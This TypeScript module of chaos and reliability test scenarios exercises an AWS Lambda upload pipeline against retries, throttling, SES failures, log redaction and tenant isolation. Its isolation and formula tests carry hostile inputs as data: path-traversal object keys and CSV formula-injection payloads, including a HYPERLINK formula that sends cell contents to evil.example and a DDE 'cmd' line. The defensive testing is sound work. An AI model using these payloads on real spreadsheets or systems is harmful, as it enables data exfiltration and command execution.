/**
 * The reliability scenarios (R1, R2, R3, R6, R7: docs/reliability.md), sized by their caller: the
 * fast test (test/integration/reliability.test.ts) runs them small, `npm run chaos`
 * (test/chaos/run.ts) at full size with more seeds. Each returns what happened; the callers
 * check it and print the figures.
 */
import { randomUUID } from 'node:crypto';
import type { S3Event } from 'aws-lambda';
import type { SentEmail } from '../../local/aws/local-aws.js';
import { dayToIso, isoToDay } from '../../shared/domain/dates.js';
import { encodeEventKey } from '../../shared/storage/bucket-layout.js';
import type { UploadOutcome } from '../../shared/use-cases/plan-upload.js';
import { csvOf, type RowSpec } from '../support/plan-csv.js';
import { type Call, type Counts, Killed, rng, sesServiceUnavailable } from './faults.js';
import {
  ADDRESS,
  addPartner,
  at,
  captureLogs,
  type Delivery,
  deleteObject,
  emailOf,
  forgedEvent,
  invokeOnce,
  isReportMail,
  items,
  lambda,
  listKeys,
  mailbox,
  objectText,
  planSnapshot,
  plusMinutes,
  portfolioCsv,
  putObject,
  runScheduled,
  type ScheduledStats,
  uploadKey,
  type World,
} from './world.js';

const outcomeOf = (d: { outcomes?: UploadOutcome[] | undefined }) => d.outcomes?.map((o) => o.outcome).join(',') ?? 'failed';

async function uploadStatus(w: World, partnerId: string): Promise<Record<string, unknown>[]> {
  return items(w, partnerId, 'UPLOAD#');
}

async function reportMails(w: World, partnerId: string): Promise<SentEmail[]> {
  return ((await mailbox(w)).get(emailOf(partnerId)) ?? []).filter(isReportMail);
}

// --- R1: the same event delivered several times ----------------------------------------------------

export interface DuplicateResult {
  partnerId: string;
  deliveries: number;
  concurrent: boolean;
  outcomes: string[];
  uploadItems: number;
  reportMails: number;
  plan: string[];
}

/** The same S3 event delivered `deliveries` times, one after another or all at once. */
export async function duplicateDeliveries(
  w: World,
  o: { partnerId: string; csv: string; when: Date; deliveries: number; concurrent: boolean },
): Promise<DuplicateResult> {
  await addPartner(w, o.partnerId);
  const event = await putObject(w, uploadKey(o.partnerId), o.csv, o.when);
  w.stack.clock.now = o.when;
  const deliver = () => w.stack.invokeUpload(event, { requestId: randomUUID() }).then((list) => list.map((x) => x.outcome).join(','));
  const outcomes: string[] = [];
  if (o.concurrent) outcomes.push(...(await Promise.all(Array.from({ length: o.deliveries }, deliver))));
  else for (let i = 0; i < o.deliveries; i++) outcomes.push(await deliver());
  return {
    partnerId: o.partnerId,
    deliveries: o.deliveries,
    concurrent: o.concurrent,
    outcomes,
    uploadItems: (await uploadStatus(w, o.partnerId)).length,
    reportMails: (await reportMails(w, o.partnerId)).length,
    plan: (await planSnapshot(w, o.partnerId)).items,
  };
}

// --- R2: killed at a random batch, then re-run --------------------------------------------------

/**
 * How the killed run ends and who runs it again:
 * - `lambda-retry`: the process dies (nothing after the kill reaches AWS, the claim stays
 *   `processing`); Lambda retries the event a minute later under the same request id.
 * - `failed`: the batch write fails and the handler still marks the upload `failed` before
 *   rethrowing; Lambda's retry claims it again.
 * - `stale-window`: the process dies; a later delivery of the event under a new request id
 *   (S3's at-least-once, or a replay from the dead-letter queue) is turned away while the claim
 *   is fresh and claims it once it is older than the Lambda timeout.
 */
export type Recovery = 'lambda-retry' | 'failed' | 'stale-window';

/** Where to kill: at the N-th BatchWriteItem, or at the N-th call of any kind (DynamoDB, S3, SES). */
export interface KillPoint {
  kind: 'batch' | 'call';
  /** 1-based */
  n: number;
}

export interface CrashResult {
  partnerId: string;
  recovery: Recovery;
  killedAt: KillPoint;
  /** the call the kill hit, e.g. "dynamodb BatchWriteItem" */
  killedCall: string;
  killError: string;
  statusAfterKill: unknown;
  itemsAfterKill: number;
  /** outcome of a new delivery inside the stale window (stale-window only) */
  earlyRedelivery?: string;
  retryOutcome: string;
  uploadItems: number;
  reportMails: number;
  plan: string[];
  uploadIds: number;
  shardsOk: boolean;
}

export async function crashAndRerun(
  w: World,
  o: { partnerId: string; csv: string; when: Date; killAt: KillPoint; recovery: Recovery },
): Promise<CrashResult> {
  await addPartner(w, o.partnerId);
  const event = await putObject(w, uploadKey(o.partnerId), o.csv, o.when);
  w.chaos.reset();
  const requestId = `req-${o.partnerId}`;
  let seen = 0;
  let killedCall = '';
  w.chaos.set({
    kill: {
      when: (call) => {
        if (o.killAt.kind === 'batch' && call.command !== 'BatchWriteItem') return false;
        if (++seen !== o.killAt.n) return false;
        killedCall = `${call.service} ${call.command}`;
        return true;
      },
      mode: o.recovery === 'failed' ? 'error' : 'crash',
    },
  });
  const first = await invokeOnce(w, event, o.when, requestId);
  const dead = w.chaos.dead;
  w.chaos.reset();
  if (!first.error) throw new Error(`The run of ${o.partnerId} was not killed (${o.killAt.kind} #${o.killAt.n}): ${outcomeOf(first)}`);
  if (o.recovery !== 'failed' && !dead) throw new Error('The kill did not take the process down');
  const [upload] = await uploadStatus(w, o.partnerId);
  const itemsAfterKill = (await items(w, o.partnerId, 'SUB#')).length + (await items(w, o.partnerId, 'CUST#')).length;

  let earlyRedelivery: string | undefined;
  let retry: { outcomes?: UploadOutcome[]; error?: unknown };
  if (o.recovery === 'stale-window') {
    earlyRedelivery = outcomeOf(await invokeOnce(w, event, plusMinutes(o.when, 1)));
    retry = await invokeOnce(w, event, plusMinutes(o.when, 17));
  } else {
    retry = await invokeOnce(w, event, plusMinutes(o.when, 1), requestId);
  }
  if (retry.error) throw retry.error;
  // Killed before it claimed the upload: the early redelivery planned it, the later one is a repeat.
  if (earlyRedelivery === 'planned') retry = { outcomes: [{ outcome: 'planned' } as UploadOutcome] };
  const snapshot = await planSnapshot(w, o.partnerId);
  return {
    partnerId: o.partnerId,
    recovery: o.recovery,
    killedAt: o.killAt,
    killedCall,
    killError: errorName(first.error),
    statusAfterKill: upload?.status,
    itemsAfterKill,
    earlyRedelivery,
    retryOutcome: outcomeOf(retry),
    uploadItems: (await uploadStatus(w, o.partnerId)).length,
    reportMails: (await reportMails(w, o.partnerId)).length,
    plan: snapshot.items,
    uploadIds: snapshot.uploadIds.length,
    shardsOk: snapshot.shardsOk,
  };
}

// --- R3: faults on the way -----------------------------------------------------------------------

export interface FaultResult {
  partnerId: string;
  delivery: { outcome: string; attempts: number; errors: string[] };
  /** every attempt failed: the event went to the dead-letter queue and was replayed from there */
  deadLettered?: boolean;
  counts: Counts;
  status: unknown;
  reportMails: number;
  plan: string[];
  /** SUB/CUST items present after a failed attempt, before the retry */
  itemsAfterFailure?: number;
}

function summary(d: Delivery) {
  return { outcome: outcomeOf(d), attempts: d.attempts, errors: d.errors.map(errorName) };
}

/** The error's name, or its first error's for an AggregateError (the upload handler's). */
function errorName(error: unknown): string {
  return error instanceof AggregateError ? String((error.errors[0] as Error)?.name) : String((error as Error).name);
}

/** What an upload left behind: its status, the report e-mails sent, the stored plan. */
async function leftBehind(w: World, partnerId: string): Promise<Pick<FaultResult, 'status' | 'reportMails' | 'plan'>> {
  return {
    status: (await uploadStatus(w, partnerId))[0]?.status,
    reportMails: (await reportMails(w, partnerId)).length,
    plan: (await planSnapshot(w, partnerId)).items,
  };
}

/**
 * DynamoDB throttling (a share of all attempts answered ProvisionedThroughputExceededException,
 * never more than `maxConsecutive` in a row for one request unless `maxConsecutive` ≥ 3, when
 * the SDK gives up and Lambda retries) and BatchWriteItem answers with part of the items in
 * UnprocessedItems.
 */
export async function uploadUnderThrottling(
  w: World,
  o: {
    partnerId: string;
    csv: string;
    when: Date;
    seed: number;
    throttleRate: number;
    maxConsecutive: number;
    throttleBudget?: number;
    unprocessedRate: number;
  },
): Promise<FaultResult> {
  await addPartner(w, o.partnerId);
  const event = await putObject(w, uploadKey(o.partnerId), o.csv, o.when);
  const r = rng(o.seed);
  let budget = o.throttleBudget ?? Infinity;
  w.chaos.reset();
  w.chaos.set({
    throttle: (a) => a.attempt <= o.maxConsecutive && budget > 0 && r() < o.throttleRate && budget-- > 0,
    unprocessed: (_call, n) => (r() < o.unprocessedRate ? 1 + Math.floor(r() * n) : 0),
  });
  let delivery = await lambda(w, event, o.when);
  const deadLettered = delivery.outcomes === undefined;
  if (deadLettered) {
    // Replayed from the dead-letter queue later: a new invocation, once the claim is stale.
    w.chaos.set({ throttle: undefined, unprocessed: undefined });
    delivery = await lambda(w, event, plusMinutes(o.when, 30));
  }
  const counts = w.chaos.reset();
  return {
    partnerId: o.partnerId,
    delivery: summary(delivery),
    deadLettered,
    counts,
    ...(await leftBehind(w, o.partnerId)),
  };
}

/** The S3 body of the upload breaks off after `cutAfter` bytes on the first `cuts` reads. */
export async function uploadWithBrokenBody(
  w: World,
  o: { partnerId: string; csv: string; when: Date; cutAfter: number[] },
): Promise<FaultResult> {
  await addPartner(w, o.partnerId);
  const key = uploadKey(o.partnerId);
  const event = await putObject(w, key, o.csv, o.when);
  const cuts = [...o.cutAfter];
  w.chaos.reset();
  w.chaos.set({ cutBody: (call: Call) => (call.input.Key === key ? cuts.shift() : undefined) });
  // The first attempt alone, to look at what it left behind.
  const first = await invokeOnce(w, event, o.when, `req-${o.partnerId}`);
  const itemsAfterFailure = (await items(w, o.partnerId, 'SUB#')).length + (await items(w, o.partnerId, 'CUST#')).length;
  const statusAfterFailure = (await uploadStatus(w, o.partnerId))[0]?.status;
  const rest = await lambda(w, event, plusMinutes(o.when, 1), { requestId: `req-${o.partnerId}`, attempts: 2 });
  const counts = w.chaos.reset();
  return {
    partnerId: o.partnerId,
    delivery: {
      outcome: first.error ? outcomeOf(rest) : outcomeOf(first),
      attempts: first.error ? 1 + rest.attempts : 1,
      errors: [
        ...(first.error ? [String((first.error as AggregateError).errors?.[0]?.code ?? (first.error as Error).name)] : []),
        ...summary(rest).errors,
      ],
    },
    counts,
    ...(await leftBehind(w, o.partnerId)),
    status: statusAfterFailure,
    itemsAfterFailure,
  };
}

/** SES answers the report e-mail with 503 `failures` times in a row. */
export async function reportMailUnderSes5xx(
  w: World,
  o: { partnerId: string; csv: string; when: Date; failures: number },
): Promise<FaultResult> {
  await addPartner(w, o.partnerId);
  const event = await putObject(w, uploadKey(o.partnerId), o.csv, o.when);
  let left = o.failures;
  const to = emailOf(o.partnerId);
  w.chaos.reset();
  w.chaos.set({ sesFault: (a) => (a.input.Destination?.ToAddresses?.includes(to) && left-- > 0 ? sesServiceUnavailable() : undefined) });
  let delivery = await lambda(w, event, o.when);
  const deadLettered = delivery.outcomes === undefined;
  if (deadLettered) delivery = await lambda(w, event, plusMinutes(o.when, 30)); // replayed from the DLQ
  const counts = w.chaos.reset();
  return {
    partnerId: o.partnerId,
    delivery: summary(delivery),
    deadLettered,
    counts,
    ...(await leftBehind(w, o.partnerId)),
  };
}

// --- days of scheduled runs, with or without faults ------------------------------------------------

export interface ReminderFaults {
  /** the partner whose e-mails and digest claims the faults hit */
  partnerId: string;
  /** days (ISO) on which SES refuses every attempt to this partner, all day: the next run must send it */
  sesDownOn: string[];
  /** days on which SES answers 503 twice, then accepts (the SDK's retries absorb it) */
  sesFlakyOn: string[];
  /** days on which recording "sent" fails right after SES accepted the digest (a crash there) */
  crashAfterSendOn: string[];
  /** a share of all DynamoDB attempts throttled (at most twice in a row), up to `throttleBudget` */
  throttleRate: number;
  throttleBudget: number;
  seed: number;
}

export interface SimulationResult extends ScheduledStats {
  days: number;
  counts: Counts;
  /** faults that hit: SES attempts refused on "down" days, 503s absorbed by the SDK, crashes after a send */
  injected: { sesDown: number; sesFlaky: number; crashAfterSend: number };
}

/** Runs the daily and weekly functions at 07:00 UTC on `days` days from `start`. */
export async function simulateDays(w: World, o: { start: string; days: number; faults?: ReminderFaults }): Promise<SimulationResult> {
  const stats: ScheduledStats = { invocations: 0, lambdaRetries: 0, deadLettered: 0 };
  const f = o.faults;
  const r = rng(f?.seed ?? 1);
  let budget = f?.throttleBudget ?? 0;
  let day = '';
  let flaky = 0;
  let crashArmed = false;
  const injected = { sesDown: 0, sesFlaky: 0, crashAfterSend: 0 };
  w.chaos.reset();
  if (f) {
    w.chaos.set({
      throttle: (a) => a.attempt <= 2 && budget > 0 && r() < f.throttleRate && budget-- > 0,
      sesFault: (a) => {
        if (!a.input.Destination?.ToAddresses?.includes(emailOf(f.partnerId))) return undefined;
        if (f.sesDownOn.includes(day)) {
          injected.sesDown++;
          return sesServiceUnavailable();
        }
        if (flaky > 0) {
          flaky--;
          injected.sesFlaky++;
          return sesServiceUnavailable();
        }
        return undefined;
      },
      call: (call) => {
        const values = call.input.ExpressionAttributeValues as Record<string, unknown> | undefined;
        if (
          crashArmed &&
          call.command === 'UpdateItem' &&
          call.input.Key?.pk === `P#${f.partnerId}` &&
          String(call.input.Key?.sk).startsWith('DIGEST#') &&
          Object.values(values ?? {}).includes('sent')
        ) {
          crashArmed = false;
          injected.crashAfterSend++;
          throw new Killed('recording the digest as sent');
        }
      },
    });
  }
  for (let d = 0; d < o.days; d++) {
    day = dayToIso(isoToDay(o.start) + d);
    flaky = f?.sesFlakyOn.includes(day) ? 2 : 0;
    crashArmed = f?.crashAfterSendOn.includes(day) ?? false;
    await runScheduled(w, at(day, 7), stats);
  }
  const counts = w.chaos.reset();
  return { ...stats, days: o.days, counts, injected };
}

// --- R6: tenant isolation and odd keys --------------------------------------------------------------

/** What one delivery touched: partition keys in DynamoDB, keys in S3, recipients in SES. */
export interface Touched {
  partitions: Set<string>;
  indexes: Set<string>;
  s3Keys: Set<string>;
  recipients: Set<string>;
}

/** The partner a partition key belongs to, as `P#{partnerId}`: its plan's shards `P#{partnerId}#{n}` are its own too. */
function partnerPartition(pk: string): string {
  return pk.replace(/^(P#[^#]+)#\d+$/, '$1');
}

function recorder(): { touched: Touched; hook: (call: Call) => void } {
  const touched: Touched = { partitions: new Set(), indexes: new Set(), s3Keys: new Set(), recipients: new Set() };
  const hook = (call: Call) => {
    const input = call.input;
    if (call.service === 'dynamodb') {
      if (input.IndexName) touched.indexes.add(String(input.IndexName));
      const pks = [
        input.Key?.pk,
        input.Item?.pk,
        input.ExpressionAttributeValues?.[':pk'],
        ...Object.values((input.RequestItems ?? {}) as Record<string, { PutRequest?: { Item: { pk: string } } }[]>)
          .flat()
          .map((r) => r.PutRequest?.Item.pk),
      ];
      for (const pk of pks) if (pk !== undefined) touched.partitions.add(partnerPartition(String(pk)));
    } else if (call.service === 's3') {
      if (input.Key !== undefined) touched.s3Keys.add(String(input.Key));
    } else {
      for (const to of input.Destination?.ToAddresses ?? []) touched.recipients.add(String(to));
    }
  };
  return { touched, hook };
}

/** A file for partner A whose every field imitates partner B, or tries to break out of A's partition. */
export function impostorCsv(victim: string, victimSubscriptions: string[], today: string): string {
  const end = (days: number) => dayToIso(isoToDay(today) + days);
  const rows: RowSpec[] = [
    { customer: `P#${victim}`, name: `Partner ${victim}`, email: emailOf(victim), sub: victimSubscriptions[0] ?? 'sub-x', end: end(40) },
    { customer: `../${victim}`, name: `reports/${victim}/`, email: emailOf(victim), sub: victimSubscriptions[1] ?? 'sub-y', end: end(50) },
    { customer: victim, name: victim, sub: `SUB#${victimSubscriptions[0] ?? 'x'}`, end: end(60) },
    { customer: `${victim}#SUB#evil`, name: `uploads/${victim}/x.csv`, sub: `../../${victim}/SUB#1`, end: end(70) },
  ];
  return csvOf(rows);
}

export interface KeyCase {
  label: string;
  /** the raw key put to S3, or undefined for a forged event only */
  put?: string;
  /** the key as it arrives in the event (URL-encoded) */
  eventKey: string;
  outcome: string;
  touched: { partitions: string[]; indexes: string[]; s3Keys: string[]; recipients: string[] };
  logLines: string[];
}

export interface IsolationResult {
  victim: string;
  attacker: string;
  cases: KeyCase[];
  victimItemsBefore: string[];
  victimItemsAfter: string[];
  victimReportsBefore: { key: string; eTag: string }[];
  victimReportsAfter: { key: string; eTag: string }[];
  victimMails: number;
  attackerReportKeys: string[];
  attackerPartitions: string[];
}

/**
 * Partner B (the victim) has a plan; partner A uploads, under odd keys, a file that imitates B.
 * Records what each delivery touched (every DynamoDB partition key, S3 key, SES recipient) and
 * what it logged, and B's items and reports before and after.
 */
export async function tenantIsolation(
  w: World,
  o: { attacker: string; victim: string; victimCsv: string; when: Date },
): Promise<IsolationResult> {
  const { attacker: a, victim: b } = o;
  await addPartner(w, a);
  await addPartner(w, b);
  const victimEvent = await putObject(w, uploadKey(b), o.victimCsv, o.when);
  await lambda(w, victimEvent, o.when);
  const victimSubs = (await items(w, b, 'SUB#')).map((i) => String(i.sk).slice('SUB#'.length));
  const victimItemsBefore = (await items(w, b)).map((i) => JSON.stringify(i)).sort();
  const victimReportsBefore = await listKeys(w, `reports/${b}/`);
  const victimMailsBefore = (await mailbox(w)).get(emailOf(b))?.length ?? 0;
  const csv = impostorCsv(b, victimSubs, o.when.toISOString().slice(0, 10));

  const cases: { label: string; put?: string; eventKey?: string }[] = [
    { label: 'plain', put: `uploads/${a}/impostor.csv` },
    { label: 'spaces, plus, unicode', put: `uploads/${a}/Kunden Übersicht+2027 (日本).csv` },
    { label: 'literal %2F and .. in the name', put: `uploads/${a}/x%2F..%2F${b}.csv` },
    { label: 'formula file name', put: `uploads/${a}/=HYPERLINK("evil")+@x.csv` },
    { label: 'nested under another partner', put: `uploads/${a}/${b}/impostor.csv` },
    { label: 'literal %2F in the partner', put: `uploads/${a}%2F${b}/impostor.csv` },
    // s3rver resolves ".." in keys on disk (real S3 keeps them literally), so these are forged events only.
    { label: 'dot-dot into the other partner', eventKey: encodeEventKey(`uploads/${a}/../${b}/impostor.csv`) },
    { label: 'encoded slashes in the event key', eventKey: `uploads/${a}%2F..%2F${b}%2Fimpostor.csv` },
    { label: 'dot segment', eventKey: encodeEventKey(`uploads/./${b}/impostor.csv`) },
    { label: 'broken URL encoding', eventKey: `uploads/${a}/100%.csv` },
  ];
  const results: KeyCase[] = [];
  let template: S3Event | undefined;
  for (const c of cases) {
    const event = c.put ? await putObject(w, c.put, csv, o.when) : forgedEvent(template!, c.eventKey!, o.when);
    template ??= event;
    const { hook, touched } = recorder();
    w.chaos.set({ call: hook });
    const { result: delivery, lines } = await captureLogs('WARN', () => lambda(w, event, o.when));
    w.chaos.reset();
    results.push({
      label: c.label,
      put: c.put,
      eventKey: event.Records[0]!.s3.object.key,
      outcome: outcomeOf(delivery),
      touched: {
        partitions: [...touched.partitions].sort(),
        indexes: [...touched.indexes].sort(),
        s3Keys: [...touched.s3Keys].sort(),
        recipients: [...touched.recipients].sort(),
      },
      logLines: lines,
    });
  }
  const attackerItems = await items(w, a);
  return {
    victim: b,
    attacker: a,
    cases: results,
    victimItemsBefore,
    victimItemsAfter: (await items(w, b)).map((i) => JSON.stringify(i)).sort(),
    victimReportsBefore,
    victimReportsAfter: await listKeys(w, `reports/${b}/`),
    victimMails: ((await mailbox(w)).get(emailOf(b))?.length ?? 0) - victimMailsBefore,
    attackerReportKeys: (await listKeys(w, `reports/${a}/`)).map((x) => x.key),
    attackerPartitions: [...new Set(attackerItems.map((i) => partnerPartition(String(i.pk))))],
  };
}

// --- R6: names that start like a formula ---------------------------------------------------------

export const FORMULA_NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3 <b>bold</b>',
  '@SUM(A1:A9) & "x"',
  '\t=1+1 tab first',
] as const;

export interface NeutralisationResult {
  partnerId: string;
  reportMail: SentEmail | undefined;
  digest: SentEmail | undefined;
  /** The upload's plan.csv, errors.csv and report.html. */
  planCsv: string;
  errorsCsv: string;
  reportHtml: string;
  /** Customer names stored (DynamoDB) after the upload, sorted. */
  storedNames: string[];
  /** The same, after the upload's own plan.csv was uploaded again unedited. */
  storedNamesAfterReupload: string[];
}

/** Customers named like formulas, due for every kind of reminder on the upload day. */
export async function formulaNames(w: World, o: { partnerId: string; when: Date }): Promise<NeutralisationResult> {
  await addPartner(w, o.partnerId);
  const today = o.when.toISOString().slice(0, 10);
  const end = (days: number) => dayToIso(isoToDay(today) + days);
  const rows: RowSpec[] = FORMULA_NAMES.flatMap((name, i) => [
    // ends soon: an invitation due now, an expiry reminder 7 days before the end, costly overlap
    { customer: `evil-${i}`, name, email: `admin@evil${i}.example`, sub: `=sub-${i}`, offer: name, end: end(7), seats: 500, price: 40 },
    { customer: `evil-${i}`, name, email: `admin@evil${i}.example`, sub: `@sub-${i}-b`, end: end(30), seats: 50 },
  ]);
  const event = await putObject(w, uploadKey(o.partnerId, '=evil.csv'), csvOf(rows), o.when);
  await lambda(w, event, o.when);
  await w.fanOut.handler({ time: at(today, 7).toISOString(), job: 'daily-digest' });
  await w.stack.drainWork();
  const mails = (await mailbox(w)).get(emailOf(o.partnerId)) ?? [];
  const reports = (await listKeys(w, `reports/${o.partnerId}/`)).map((k) => k.key);
  const report = async (name: string) => objectText(w, reports.find((k) => k.endsWith(`/${name}`))!);
  const planCsv = await report('plan.csv');
  const storedNames = await customerNames(w, o.partnerId);
  await lambda(w, await putObject(w, uploadKey(o.partnerId, 'plan.csv'), planCsv, plusMinutes(o.when, 60)), plusMinutes(o.when, 60));
  return {
    partnerId: o.partnerId,
    reportMail: mails.find(isReportMail),
    digest: mails.find((m) => m.subject.startsWith('CSP moves for')),
    planCsv,
    errorsCsv: await report('errors.csv'),
    reportHtml: await report('report.html'),
    storedNames,
    storedNamesAfterReupload: await customerNames(w, o.partnerId),
  };
}

async function customerNames(w: World, partnerId: string): Promise<string[]> {
  const { readCustomer } = await import('../../shared/storage/dynamodb/item-codec.js');
  return (await items(w, partnerId, 'CUST#')).map((item) => readCustomer(item as Parameters<typeof readCustomer>[0]).customerName).sort();
}

// --- R7: no e-mail address in the logs -------------------------------------------------------------

export interface LogResult {
  lines: string[];
  entries: Record<string, unknown>[];
  addresses: string[];
  knownAddresses: string[];
  redacted: number;
}

/**
 * A full day at INFO with e-mail addresses everywhere: partner and customer addresses in the data,
 * an address in a file name and in a CSV header (rejected: the message lists the headers), an
 * unknown partner, SES refusing a report e-mail and a daily digest with a message that names the
 * recipient (as SES's MessageRejected does), customer invitations; then the scheduled runs.
 */
export async function logsAtInfo(w: World, o: { prefix: string; when: Date; rows: number }): Promise<LogResult> {
  const { MessageRejected } = await import('@aws-sdk/client-sesv2');
  const today = o.when.toISOString().slice(0, 10);
  const ok = `${o.prefix}-ok`;
  const refused = `${o.prefix}-refused`;
  const link = 'https://admin.microsoft.com/Adminportal/Home?invType=ResellerRelationship&partnerId=11111111-2222-3333-4444-555555555555';
  const csv = portfolioCsv(o.rows, 7, today);
  const knownAddresses = [emailOf(ok), emailOf(refused), ...new Set([...csv.matchAll(ADDRESS)].map((m) => m[0]))];
  const rejectFor = (to: string) =>
    new MessageRejected({
      message: `Email address is not verified. The following identities failed the check in region US-EAST-1: ${to}`,
      $metadata: { httpStatusCode: 400 },
    });

  const { lines } = await captureLogs('INFO', async () => {
    await addPartner(w, ok, { notify_customers: true, reseller_link: link });
    await addPartner(w, refused);
    await lambda(w, await putObject(w, uploadKey(ok, `plan for ${emailOf(ok)}.csv`), csv, o.when), o.when);
    await lambda(
      w,
      await putObject(w, uploadKey(ok, 'headers.csv'), `customer_id,${emailOf(ok)},admin@kunde1.example\n1,2,3\n`, o.when),
      o.when,
    );
    await lambda(w, await putObject(w, uploadKey(`${o.prefix}-nobody`, `from ${emailOf(ok)}.csv`), csv, o.when), o.when);
    w.chaos.set({
      sesFault: (a) => (a.input.Destination?.ToAddresses?.includes(emailOf(refused)) ? rejectFor(emailOf(refused)) : undefined),
    });
    await lambda(w, await putObject(w, uploadKey(refused), csv, o.when), o.when);
    for (let d = 0; d < 3; d++)
      await runScheduled(w, at(dayToIso(isoToDay(today) + d), 7), { invocations: 0, lambdaRetries: 0, deadLettered: 0 });
    w.chaos.reset();
  });
  const entries = lines.flatMap((l) => {
    try {
      return [JSON.parse(l) as Record<string, unknown>];
    } catch {
      return [];
    }
  });
  return {
    lines,
    entries,
    addresses: lines.flatMap((l) => [...l.matchAll(ADDRESS)].map((m) => m[0])),
    knownAddresses,
    redacted: lines.reduce((n, l) => n + (l.match(/\[email\]/g)?.length ?? 0), 0),
  };
}

// --- an object gone before the read, an empty object ------------------------------------------------

export interface GoneResult {
  delivery: { outcome: string; attempts: number; code?: string | undefined };
  upload: Record<string, unknown> | undefined;
  errorsCsv: string;
  failureMails: number;
}

async function rejectedUpload(w: World, partnerId: string, name: string, delivery: Delivery): Promise<GoneResult> {
  const outcome = delivery.outcomes?.[0];
  const uploadId = outcome && 'uploadId' in outcome ? outcome.uploadId : undefined;
  const upload = (await uploadStatus(w, partnerId)).find((u) => u.fileName === name);
  const errorsKey = uploadId ? `reports/${partnerId}/${uploadId}/errors.csv` : undefined;
  return {
    delivery: { outcome: outcomeOf(delivery), attempts: delivery.attempts, code: outcome && 'code' in outcome ? outcome.code : undefined },
    upload,
    errorsCsv: errorsKey ? await objectText(w, errorsKey).catch(() => '') : '',
    failureMails: ((await mailbox(w)).get(emailOf(partnerId)) ?? []).filter(
      (m) => m.subject.includes(name) && /could not be planned/.test(m.subject),
    ).length,
  };
}

/** The object is deleted between its event and the read. */
export async function deletedBeforeRead(w: World, o: { partnerId: string; csv: string; when: Date }): Promise<GoneResult> {
  await addPartner(w, o.partnerId);
  const name = 'gone.csv';
  const event = await putObject(w, uploadKey(o.partnerId, name), o.csv, o.when);
  await deleteObject(w, uploadKey(o.partnerId, name));
  return rejectedUpload(w, o.partnerId, name, await lambda(w, event, o.when));
}

/** A zero-byte object. */
export async function emptyObject(w: World, o: { partnerId: string; when: Date }): Promise<GoneResult> {
  await addPartner(w, o.partnerId);
  const name = 'empty.csv';
  const event = await putObject(w, uploadKey(o.partnerId, name), '', o.when);
  return rejectedUpload(w, o.partnerId, name, await lambda(w, event, o.when));
}

// --- customer invitations under SES failures ----------------------------------------------------

export interface InvitationResult {
  /** invitation e-mails each customer contact got, by contact (domain part dropped), per partner */
  clean: Record<string, number>;
  faulty: Record<string, number>;
  /** the contact whose invitation SES refused on every attempt of the first run */
  refused: string | undefined;
  sesFaults: number;
  lambdaRetries: number;
}

const RESELLER_LINK =
  'https://admin.microsoft.com/Adminportal/Home?invType=ResellerRelationship&partnerId=11111111-2222-3333-4444-555555555555';

/**
 * Two partners with notify_customers upload the same portfolio (their customers' contacts on
 * different domains); on the first day SES refuses one customer invitation of the second partner
 * on every attempt, so the daily run fails after its digest went out and Lambda retries it.
 */
export async function invitationsUnderSes5xx(w: World, o: { prefix: string; csv: string; when: Date }): Promise<InvitationResult> {
  const partners = { clean: `${o.prefix}-clean`, faulty: `${o.prefix}-faulty` };
  for (const [role, partnerId] of Object.entries(partners)) {
    await addPartner(w, partnerId, { notify_customers: true, reseller_link: RESELLER_LINK });
    const csv = o.csv.replaceAll('@kunde', `@${role}-${o.prefix}-kunde`);
    await lambda(w, await putObject(w, uploadKey(partnerId), csv, o.when), o.when);
  }
  let refused: string | undefined;
  let left = 3; // every attempt of the SDK's first call: it gives up, the run fails
  w.chaos.reset();
  w.chaos.set({
    sesFault: (a) => {
      const to = String(a.input.Destination?.ToAddresses?.[0] ?? '');
      if (!to.includes(`@faulty-${o.prefix}-kunde`)) return undefined;
      refused ??= to;
      return to === refused && left-- > 0 ? sesServiceUnavailable() : undefined;
    },
  });
  const stats: ScheduledStats = { invocations: 0, lambdaRetries: 0, deadLettered: 0 };
  await runScheduled(w, at(o.when.toISOString().slice(0, 10), 7), stats);
  const counts = w.chaos.reset();
  const mail = await mailbox(w);
  const invited = (role: string) => {
    const byContact: Record<string, number> = {};
    for (const [to, mails] of mail) {
      if (!to.includes(`@${role}-${o.prefix}-kunde`)) continue;
      byContact[to.replace(`@${role}-${o.prefix}-`, '@')] = mails.filter((m) => m.subject.startsWith('Action needed by')).length;
    }
    return byContact;
  };
  return { clean: invited('clean'), faulty: invited('faulty'), refused, sesFaults: counts.sesFaults, lambdaRetries: stats.lambdaRetries };
}
